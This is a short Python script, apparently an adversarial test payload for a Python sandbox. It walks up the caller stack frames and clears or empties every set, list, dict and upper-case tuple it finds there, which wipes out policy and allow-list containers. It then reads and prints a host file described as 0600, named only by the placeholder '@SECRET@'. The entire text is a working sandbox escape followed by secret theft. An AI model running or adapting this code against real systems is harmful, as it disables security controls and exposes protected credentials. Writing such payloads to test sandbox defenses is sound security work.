# Empties every policy-looking container reachable through the callers' frame globals and
# locals, then reads a 0600 host file.
import sys
frame = sys._getframe(1)
while frame is not None:
    for scope in (frame.f_globals, frame.f_locals):
        if scope is globals():
            continue
        for name, value in list(scope.items()):
            if name.startswith("__") or value is globals():  # the program's own
                continue
            if isinstance(value, (set, list, dict)):
                value.clear()
            elif isinstance(value, (tuple, frozenset)) and name.isupper():
                scope[name] = type(value)()
    frame = frame.f_back
print(open("@SECRET@").read())
